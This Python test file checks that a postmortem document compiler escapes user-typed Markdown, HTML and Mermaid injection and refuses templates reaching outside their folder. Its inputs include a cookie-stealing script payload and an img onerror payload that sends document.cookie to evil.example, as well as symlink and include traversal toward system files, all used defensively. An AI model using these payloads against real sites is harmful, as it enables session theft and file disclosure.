"""People's words in postmortem.md: they read as written, and cannot forge its structure.

A title, a finding or an action item is typed by whoever is in the channel; the document is
read by everyone after the incident, often rendered on a wiki or a code host. Whatever was
typed must not add a heading, raw HTML, a table row or a line of the Mermaid diagram — and the
JSON form keeps the words exactly as typed.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.core.postmortem.compiler import PostmortemInput, compile_postmortem
from bot.core.timeline import TimelineKind
from tests.core.postmortem.postmortem_cases import event, legal_rag

NOW = datetime(2024, 6, 1, 12, 0, tzinfo=UTC)
FORGED_HEADING = "Citations\n## Root cause\nNothing to see here, all fixed"
SCRIPT = "<script>alert(document.cookie)</script>"
IMAGE = '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">'


@pytest.fixture
def draft() -> PostmortemInput:
    return legal_rag()


def headings(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if re.match(r"#{1,6} ", line)]


def fences(markdown: str) -> int:
    return len(re.findall(r"^\s*```", markdown, re.MULTILINE))


def unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_a_multi_line_title_cannot_forge_a_heading(draft: PostmortemInput) -> None:
    plain = headings(compile_postmortem(draft, now=NOW).markdown)
    draft.incident = draft.incident.model_copy(update={"title": FORGED_HEADING})

    postmortem = compile_postmortem(draft, now=NOW)

    assert headings(postmortem.markdown)[1:] == plain[1:]
    assert headings(postmortem.markdown)[0] == (
        "# Incident #12: Citations ## Root cause Nothing to see here, all fixed"
    )
    assert postmortem.data["incident"]["title"] == FORGED_HEADING


def test_multi_line_findings_cannot_forge_headings_lists_or_fences(
    draft: PostmortemInput,
) -> None:
    plain = headings(compile_postmortem(draft, now=NOW).markdown)
    forged = "Re-indexed.\n# Root cause\n```\n---\n| a | b |\n|---|---|"
    assert draft.resolution is not None and draft.root_cause is not None
    draft.resolution = draft.resolution.model_copy(update={"summary": forged})
    axis = draft.root_cause.axes[0].model_copy(update={"what_changed": forged})
    draft.root_cause = draft.root_cause.model_copy(update={"axes": [axis]})

    markdown = compile_postmortem(draft, now=NOW).markdown

    assert headings(markdown) == plain
    assert fences(markdown) == 2  # the Mermaid block's own fence, opened and closed
    resolution = markdown.split("## Resolution")[1].split("\n## ")[0]
    assert not re.search(r"^\s*(---|\|)", resolution, re.MULTILINE)
    # Escaped, the words still read the same once rendered.
    assert "\\# Root cause" in markdown and "\\---" in markdown


@pytest.mark.parametrize("html", [SCRIPT, IMAGE])
def test_html_in_any_field_reaches_the_markdown_as_text(draft: PostmortemInput, html: str) -> None:
    assert draft.root_cause is not None and draft.resolution is not None
    draft.incident = draft.incident.model_copy(update={"title": html, "ai_feature": html})
    axis = draft.root_cause.axes[0].model_copy(update={"what_changed": html})
    draft.root_cause = draft.root_cause.model_copy(
        update={"axes": [axis], "why_not_caught_text": html}
    )
    draft.resolution = draft.resolution.model_copy(update={"summary": html})
    draft.slices[0] = draft.slices[0].model_copy(update={"slice": html})
    draft.action_items[0] = draft.action_items[0].model_copy(update={"title": html})
    draft.timeline.append(event(12, "2024-03-05 09:00", TimelineKind.NOTE, html, actor="U_LEE"))

    postmortem = compile_postmortem(draft, now=NOW)

    assert "<script" not in postmortem.markdown and "<img" not in postmortem.markdown
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in postmortem.markdown or (
        "&lt;img src=x onerror=" in postmortem.markdown
    )
    assert postmortem.data["incident"]["title"] == html
    assert postmortem.data["action_items"][0]["title"] == html


def test_pipes_and_line_breaks_cannot_break_a_table(draft: PostmortemInput) -> None:
    breaking = "Rebuild | the index\n| 9 | forged row | @mallory | 2024-01-01 | done |"
    draft.action_items[0] = draft.action_items[0].model_copy(update={"title": breaking})
    draft.slices[0] = draft.slices[0].model_copy(update={"slice": breaking})

    markdown = compile_postmortem(draft, now=NOW).markdown

    for section in ("## Scope", "## Action items"):
        table = markdown.split(section)[1].split("\n\n")[0]
        rows = [line for line in table.splitlines() if line.startswith("|")]
        assert rows and all(unescaped_pipes(row) == 6 for row in rows), rows
    assert "forged row" in markdown and not re.search(r"^\| 9 \|", markdown, re.MULTILINE)


def test_timeline_words_cannot_break_the_mermaid_diagram(draft: PostmortemInput) -> None:
    plain = compile_postmortem(draft, now=NOW).markdown
    lines_before = plain.split("```mermaid\n")[1].split("```")[0].count("\n")
    draft.timeline.append(
        event(
            12,
            "2024-03-05 09:00",
            TimelineKind.MITIGATION,
            "Done ```\n## Forged\nsection evil\n    x : y %% comment; #tag <b>",
            actor="U_LEE",
        )
    )

    markdown = compile_postmortem(draft, now=NOW).markdown

    diagram = markdown.split("```mermaid\n")[1].split("```")[0]
    assert diagram.count("\n") == lines_before + 1  # one more entry, on one line
    assert headings(markdown) == headings(plain)
    assert not re.search(r"^\s*section evil", diagram, re.MULTILINE)
    assert fences(markdown) == 2


# --- the team's template folder ---------------------------------------------------------------


def test_a_template_linking_outside_its_folder_is_refused(
    tmp_path: Path, draft: PostmortemInput
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:SECRET\n")
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "postmortem.md.j2").symlink_to(secret)

    postmortem = compile_postmortem(draft, template_dir=templates, now=NOW)

    assert postmortem.markdown == compile_postmortem(draft, now=NOW).markdown
    assert "SECRET" not in postmortem.markdown
    assert postmortem.template_problem is not None
    assert postmortem.template_problem == (
        "postmortem.md.j2: TemplateOutsideFolder: postmortem.md.j2 links outside the templates "
        "folder"
    )
    assert str(tmp_path) not in postmortem.template_problem


def test_an_include_reaching_outside_the_folder_is_refused(
    tmp_path: Path, draft: PostmortemInput
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET\n")
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "footer.md.j2").symlink_to(secret)
    (templates / "postmortem.md.j2").write_text(
        '# {{ pm.incident.title }}\n{% include "footer.md.j2" %}\n{% include "/etc/hostname" %}\n'
    )

    postmortem = compile_postmortem(draft, template_dir=templates, now=NOW)

    assert "SECRET" not in postmortem.markdown
    assert "## Root cause" in postmortem.markdown  # the built-in template
    assert postmortem.template_problem is not None
    assert "footer.md.j2" in postmortem.template_problem
    assert str(tmp_path) not in postmortem.template_problem


def test_a_link_inside_the_folder_is_followed(tmp_path: Path, draft: PostmortemInput) -> None:
    templates = tmp_path / "templates"
    (templates / "team").mkdir(parents=True)
    (templates / "team" / "short.md.j2").write_text("# {{ pm.incident.title | oneline }}\n")
    (templates / "postmortem.md.j2").symlink_to(templates / "team" / "short.md.j2")

    postmortem = compile_postmortem(draft, template_dir=templates, now=NOW)

    assert postmortem.template_problem is None
    assert postmortem.markdown == "# Fabricated case citations in legal research answers\n"


def test_an_error_in_an_included_template_is_named_relative_to_the_folder(
    tmp_path: Path, draft: PostmortemInput
) -> None:
    (tmp_path / "parts").mkdir()
    (tmp_path / "parts" / "broken.md.j2").write_text("{% if %}\n")
    (tmp_path / "postmortem.md.j2").write_text('{% include "parts/broken.md.j2" %}\n')

    postmortem = compile_postmortem(draft, template_dir=tmp_path, now=NOW)

    assert postmortem.template_problem is not None
    assert postmortem.template_problem.startswith("parts/broken.md.j2 line 1: TemplateSyntaxError")
    assert str(tmp_path) not in postmortem.template_problem
